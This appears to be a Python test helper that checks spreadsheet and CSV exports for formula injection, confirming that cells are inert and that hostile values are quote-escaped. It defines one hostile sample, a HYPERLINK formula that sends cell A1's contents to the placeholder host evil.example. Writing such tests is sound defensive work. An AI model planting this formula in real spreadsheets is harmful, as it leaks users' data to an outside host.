"""Checking a download for live formulas: what every export's hostile-value test asserts."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook

from fuwu.common.spreadsheets import FORMULA_TRIGGERS

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content


def assert_inert_xlsx(data: bytes, hostile: str = HOSTILE) -> None:
    """No cell is a formula, no text starts like one, and ``hostile`` is there, as text behind a quote."""
    book = load_workbook(io.BytesIO(data))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), f"{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    assert any(("'" + hostile) in t for t in texts), "the hostile value is not in the file"


def assert_inert_csv(data: bytes, hostile: str = HOSTILE) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert any(("'" + hostile) in c for c in cells), "the hostile value is not in the file"
